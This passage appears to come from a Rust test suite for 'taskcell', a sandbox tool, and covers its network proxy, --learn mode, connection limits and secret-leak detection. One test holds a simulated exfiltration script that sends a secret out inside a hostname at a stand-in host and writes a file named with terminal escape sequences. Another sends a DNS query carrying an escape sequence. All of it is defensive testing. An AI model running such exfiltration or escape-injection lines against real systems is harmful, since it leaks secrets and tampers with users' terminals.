    // The attack: the cell makes taskcell repeat its words. A request to
    // `<secret>.example.test` (refused: taskcell says so on stderr and in the audit log)
    // and a file named with the secret and terminal escapes, holding the secret (the
    // leak scan reports its path).
    let ws = Ws::new();
    let prof = profile(&ws, "allow = []\n");
    let log = ws.outside("audit.jsonl").display().to_string();
    let value = "q7secretvalue42";
    let script = "curl -s -o /dev/null http://$TC_LEAK.example.test/; \
         f=$(printf 'x-%s-\\033]0;pwned\\007\\033[2J\\r.txt' \"$TC_LEAK\"); \
         echo \"$TC_LEAK\" > \"$f\"; echo done";
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            &prof,
            "--audit-log",
            &log,
            "--secret",
            "TC_LEAK=env:TC_LEAK_VALUE",
            "--secret-opt",
            "TC_LEAK.deliver=env",
            "--",
            "/bin/sh",
            "-c",
            script,
        ],
    )
    .env("TC_LEAK_VALUE", value)
    .output()
    .expect("run");
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    let audit = std::fs::read_to_string(&log).expect("audit log");
    assert!(stdout(&o).contains("done"), "{err}");
    // taskcell did speak about both.
    assert!(err.contains("[taskcell:TC_LEAK].example.test"), "{err}");
    assert!(err.contains("leak: "), "{err}");
    assert!(audit.contains("[taskcell:TC_LEAK].example.test"), "{audit}");
    assert!(audit.contains("\"secret_leak\""), "{audit}");
    for (what, text) in [("stderr", &err), ("audit log", &audit)] {
        assert!(!text.contains(value), "{what} holds the value: {text}");
        assert!(!text.contains('\x1b'), "{what} holds ESC: {text:?}");
        assert!(!text.contains('\r'), "{what} holds CR: {text:?}");
        assert!(!text.contains('\x07'), "{what} holds BEL: {text:?}");
    }
    // Shown escaped, not dropped.
    assert!(err.contains("\\x1b]0;pwned\\x07"), "{err}");
    // The JSON escape of a control byte is not there either.
    assert!(!audit.contains("\\u001b"), "{audit}");
}

#[test]
fn the_proxy_serves_no_more_connections_at_once_than_the_cell_may_have_processes() {
    // Each served connection is a thread of taskcell's: they count against the cell.
    let port = echo_server();
    let ws = Ws::new();
    let prof = profile(&ws, &format!("{}\n[limits]\nprocesses = 32\n", allow(port)));
    let o = probe_in_cell(&ws, &prof, "concurrent", &format!("example.test:{port} 20"));
    assert_eq!(
        probe_lines(&o),
        vec!["concurrent ok 20".to_string()],
        "{o:?}"
    );
    let o = probe_in_cell(
        &ws,
        &prof,
        "concurrent",
        &format!("example.test:{port} 100"),
    );
    assert!(
        probe_lines(&o).is_empty(),
        "100 connections served at once: {o:?}"
    );
}

#[test]
fn learn_allows_every_host_audits_each_and_prints_a_paste_ready_block() {
    let port = http_server();
    let ws = Ws::new();
    let log = ws.outside("audit.jsonl");
    let allow_addr = format!("127.0.0.1:{port}");
    // `build` has no network: --learn turns the proxy on and allows names nobody listed.
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            "build",
            "--learn",
            "--resolve",
            "one.test:127.0.0.1",
            "--resolve",
            "two.test:127.0.0.1",
            "--allow",
            &allow_addr,
            "--audit-log",
            log.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            &format!(
                "curl -sf http://one.test:{port}/a >/dev/null && curl -sf http://two.test:{port}/b >/dev/null && \
                 curl -sf http://one.test:{port}/c >/dev/null && echo fetched"
            ),
        ],
    )
    .output()
    .unwrap();
    assert!(ok(&o).contains("fetched"), "{}", stderr(&o));
    let e = stderr(&o);
    let want = format!(
        "[network]\nmode = \"proxy\"\nallow = [\n  \"one.test:{port}\",\n  \"two.test:{port}\",\n]\n"
    );
    assert!(e.contains(&want), "{e}");
    // Paste-ready: the block is a profile that parses.
    std::fs::write(ws.join("learned.toml"), &want).unwrap();
    ok(&taskcell(
        ws.path(),
        &["check", ws.join("learned.toml").to_str().unwrap()],
    )
    .output()
    .unwrap());
    let audit = std::fs::read_to_string(&log).unwrap();
    let conns = audit
        .lines()
        .filter(|l| l.contains("\"net_connection\"") && l.contains("allowed by --learn"))
        .count();
    assert_eq!(conns, 3, "{audit}");
    assert!(
        audit
            .lines()
            .any(|l| l.contains("\"learned\"") && l.contains(&format!("one.test:{port}"))),
        "{audit}"
    );
    // Without --learn the same names are refused.
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            "build",
            "--resolve",
            "one.test:127.0.0.1",
            "--allow",
            &allow_addr,
            "--",
            "/bin/sh",
            "-c",
            &format!("curl -sf http://one.test:{port}/a || echo refused"),
        ],
    )
    .output()
    .unwrap();
    assert!(ok(&o).contains("refused"));
}

#[test]
fn a_tool_that_ignores_the_proxy_is_told_which_host_and_what_to_set() {
    let ws = Ws::new();
    let log = ws.outside("audit.jsonl");
    // getent resolves like any libc tool; the python part sends a query whose name holds
    // a terminal escape, which must never reach the user's terminal.
    let script = "getent hosts direct.example; echo getent=$?; \
        python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); \
q=bytes([1,2,1,0,0,1,0,0,0,0,0,0,6])+b\"\\x1b]0;x\\x07\"+bytes([0,0,1,0,1]); s.sendto(q, (\"127.0.0.1\", 53)); \
r=s.recv(512); print(\"rcode\", r[3] & 15)'";
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            "build",
            "--net",
            "proxy",
            "--audit-log",
            log.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            script,
        ],
    )
    .output()
    .unwrap();
    let out = ok(&o);
    assert!(out.contains("getent=2"), "{out}");
    assert!(out.contains("rcode 5"), "REFUSED: {out}");
    let e = stderr(&o);
    let line = e
        .lines()
        .find(|l| l.contains("direct.example"))
        .unwrap_or_else(|| panic!("no report naming the host: {e}"));
    assert!(line.contains("instead of using the proxy"), "{line}");
    assert!(line.contains("HTTPS_PROXY=http://127.0.0.1:3128"), "{line}");
    assert_eq!(
        e.lines().filter(|l| l.contains("direct.example")).count(),
        1,
        "one line per host: {e}"
    );
    assert!(
        !e.contains('\x1b'),
        "an escape from the cell reached the terminal: {e:?}"
    );
    let audit = std::fs::read_to_string(&log).unwrap();
    assert!(
        audit
            .lines()
            .any(|l| l.contains("\"dns_refused\"") && l.contains("direct.example")),
        "{audit}"
    );
    // Not in other modes: a `none` cell has no resolver to report anything.
    let o = sh(
        ws.path(),
        "build",
        &[],
        "getent hosts direct.example; echo $?",
    );
    assert!(!stderr(&o).contains("direct.example"), "{}", stderr(&o));
}
